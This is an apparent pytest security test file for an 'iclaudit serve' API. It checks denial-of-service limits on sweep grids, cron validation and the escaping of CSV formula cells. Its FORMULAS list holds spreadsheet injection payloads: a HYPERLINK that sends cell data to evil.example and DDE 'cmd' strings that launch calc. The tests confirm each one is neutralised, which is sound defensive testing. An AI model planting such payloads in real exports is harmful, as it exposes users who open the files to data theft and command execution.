"""Issue 20 (no caller can freeze, exhaust or starve the service), each finding against a real `iclaudit serve`
(uvicorn in its own process, SQLite, inline executor, auth on): the server's event loop, memory and egress
are what is measured, so the client must not share them.

H1: a body is not read before authentication, and a large non-finite body is parsed off the event loop in
one pass. H2: a sweep's size is computed before it is expanded. M1: the webhook allow-list holds as the
endpoint allow-list does. M5: CSV cells are escaped. L1: a cron that never fires is a 422. L3: an endpoint
cannot set Host. Each test prints what it measured."""

from __future__ import annotations

import csv
import io
import json
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from service.client import bound_request, wait_for
from service.internal_server import internal_server
from ui.served import make_key, serve, stop

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples"


@dataclass
class Live:
    url: str
    proc: subprocess.Popen
    state: Path
    hooks_port: int
    hits: list[str]

    def key(self, tenant: str) -> str:
        return make_key(self.state, tenant)

    def client(self, tenant: str) -> httpx.Client:
        return httpx.Client(
            base_url=self.url, headers={"Authorization": f"Bearer {self.key(tenant)}"}, timeout=30
        )

    def rss_mb(self) -> float:
        for line in Path(f"/proc/{self.proc.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
        raise AssertionError("no VmRSS")

    def log(self) -> str:
        return (self.state / "serve.log").read_text(errors="replace")


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    state = tmp_path_factory.mktemp("abuse")
    with internal_server() as (port, hits):
        proc, url, _ = serve(
            state,
            auth=True,
            extra_env={
                "ICLAUDIT_WEBHOOK_ALLOWLIST": json.dumps([f"http://127.0.0.1:{port}/hooks"]),
                "ICLAUDIT_ENDPOINT_ALLOWLIST": json.dumps([f"http://127.0.0.1:{port}/v1"]),
                "ICLAUDIT_WEBHOOK_TICK_SECONDS": "0.2",
                "ICLAUDIT_WEBHOOK_BACKOFF_SECONDS": "0.2",
                "ICLAUDIT_WEBHOOK_MAX_ATTEMPTS": "3",
                "ICLAUDIT_LOG_FORMAT": "text",
            },
        )
        try:
            yield Live(url, proc, state, port, hits)
        finally:
            stop(proc)


# --- H2: a sweep is sized arithmetically before anything is expanded -----------------------------------


def _huge_sweep() -> dict:
    grid = {f"labels.k{i}": list(range(64)) for i in range(8)}  # 64**8 = 2.8e14 points
    return {"base": bound_request(), "grid": grid}


@pytest.mark.parametrize("route", ["/v1/sweeps", "/v1/schedules"])
def test_a_grid_of_8_keys_by_64_values_is_refused_in_milliseconds(live: Live, route: str) -> None:
    body = _huge_sweep() if route == "/v1/sweeps" else {"sweep": _huge_sweep(), "cron": "0 3 * * *"}
    raw = json.dumps(body).encode()
    with live.client("h2") as api:
        rss_before = live.rss_mb()
        start = time.perf_counter()
        response = api.post(route, content=raw, headers={"Content-Type": "application/json"}, timeout=10)
        seconds = time.perf_counter() - start
        rss_after = live.rss_mb()
        print(
            f"{route}: {len(raw):,}-byte body, 8 keys × 64 values: {response.status_code} after "
            f"{seconds * 1000:.0f} ms; RSS {rss_before:.0f} → {rss_after:.0f} MB; {response.json()['error']['message']}"
        )
        assert response.status_code == 422 and seconds < 1.0 and rss_after - rss_before < 20
        detail = response.json()["error"]["details"][0]
        assert detail["path"] == "$.grid" and "281474976710656 audits" in detail["message"]
        assert "ICLAUDIT_SWEEP_MAX_AUDITS" in detail["message"]
        assert api.get("/v1/sweeps").json()["sweeps"] == []
        assert api.get("/v1/schedules").json()["schedules"] == []


# --- L1: a cron with no next date --------------------------------------------------------------------------


def test_a_cron_that_never_fires_is_422_naming_the_field(live: Live) -> None:
    with live.client("l1") as api:
        response = api.post("/v1/schedules", json={"request": bound_request(), "cron": "0 0 31 2 *"})
        assert response.status_code == 422, response.text
        detail = response.json()["error"]["details"][0]
        assert detail["path"] == "$.cron" and "never fires" in detail["message"]
        assert api.get("/v1/schedules").json()["schedules"] == []


# --- M5: CSV formula injection ------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tx",
]
# A leading carriage return is escaped too (app/csv_cells.py, the dashboard); Python's csv writer with "\n"
# line ends does not quote a CR, so the service's CSVs are checked without one (a CR inside a cell is a
# framing problem of those writers, apart from formula injection).
CR = "\rx"


def test_csv_cell_rule() -> None:
    from app.csv_cells import safe_cell

    for text in [*FORMULAS, CR, "-", "+", "=", "@"]:
        assert safe_cell(text) == "'" + text
    for kept in (-0.5, -3, True, None, "-0.5", "+3", "-1e-05", ".5", "plain", "a=b", ""):
        assert safe_cell(kept) == kept


def test_records_csv_escapes_formula_cells_and_keeps_negative_numbers(live: Live) -> None:
    """A finished audit's per-record table whose record text is a tenant's data (inserted directly: the
    science's own records are covered by its tests)."""
    from app.db import audits as audit_rows
    from app.db import keys
    from app.db.engine import make_engine, make_session_factory
    from app.db.models import AuditState

    with live.client("m5") as api:
        engine = make_engine(f"sqlite:///{live.state / 'iclaudit.db'}")
        with make_session_factory(engine).begin() as session:
            tenant = keys.get_or_create_tenant(session, "m5")
            audit = audit_rows.add_audit(session, tenant_id=tenant.id, kind="mia", request={"kind": "mia"})
            audit.state = AuditState.SUCCEEDED
            audit.result = {
                "records": [
                    {"rank": i + 1, "record_id": f"r{i}", "gap_mean": -0.5, "auc": 0.5, "text": text}
                    for i, text in enumerate([*FORMULAS, "-0.5", "plain"])
                ]
            }
            audit_id = audit.id
        engine.dispose()
        response = api.get(f"/v1/audits/{audit_id}/records", params={"format": "csv"})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    print([r["text"] for r in rows], [r["gap_mean"] for r in rows][:2])
    assert [r["text"] for r in rows] == [*("'" + f for f in FORMULAS), "-0.5", "plain"]
    assert all(r["gap_mean"] == "-0.5" for r in rows)  # a negative number stays a number


def test_sweep_result_csv_escapes_formula_cells(live: Live) -> None:
    values = [*FORMULAS[:4], "-1"]
    with live.client("m5-sweep") as api:
        sweep = api.post("/v1/sweeps", json={"base": bound_request(), "grid": {"labels.x": values}})
        assert sweep.status_code == 202, sweep.text
        sweep_id = sweep.json()["id"]
        deadline = time.monotonic() + 60
        while api.get(f"/v1/sweeps/{sweep_id}").json()["state"] not in ("SUCCEEDED", "FAILED", "CANCELLED"):
            assert time.monotonic() < deadline
            time.sleep(0.1)
        text = api.get(f"/v1/sweeps/{sweep_id}/result.csv").text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    print([r["labels.x"] for r in rows])
    assert [r["labels.x"] for r in rows] == [*("'" + v for v in FORMULAS[:4]), "-1"]
    assert all(float(r["epsilon_lower"]) >= 0 for r in rows)


def test_dashboard_download_csv_escapes_formula_cells() -> None:
    """app/ui/static/js/api.js `toCsv`, run by node as the browser would."""
    script = (
        f"import {{ toCsv }} from {json.dumps((ROOT / 'app/ui/static/js/api.js').as_uri())};\n"
        f"const rows = {json.dumps([[f'f{i}', v] for i, v in enumerate([*FORMULAS, CR])])};\n"
        "rows.push(['neg', -0.5], ['negtext', '-0.5'], ['=key', 1]);\n"
        "process.stdout.write(toCsv(rows));\n"
    )
    out = subprocess.run(
        ["node", "--input-type=module", "-e", script], capture_output=True, check=True
    ).stdout.decode()  # bytes: text mode would turn the CR into a newline
    rows = list(csv.reader(io.StringIO(out, newline="")))
    print(rows)
    assert [r[1] for r in rows[1 : len(FORMULAS) + 2]] == ["'" + f for f in [*FORMULAS, CR]]
    assert rows[-3:] == [["neg", "-0.5"], ["negtext", "-0.5"], ["'=key", "1"]]
